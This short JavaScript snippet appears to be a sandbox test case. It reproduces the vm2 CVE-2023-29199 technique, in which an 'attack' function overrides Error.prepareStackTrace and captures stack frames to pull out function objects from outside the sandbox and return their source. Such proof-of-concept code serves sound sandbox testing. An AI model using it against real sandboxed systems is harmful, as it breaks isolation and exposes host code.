// The frames are asked for by `Error.captureStackTrace`, of an object of one's own.
// after: interpreter
// source: vm2: CVE-2023-29199
function attack() {
  const own = {};
  Error.prepareStackTrace = (_, frames) => frames;
  Error.captureStackTrace(own);
  const others = own.stack.map((frame) => frame.getFunction()).filter((f) => f && f !== attack);
  Error.prepareStackTrace = undefined;
  return { proof: others.map(String) };
}
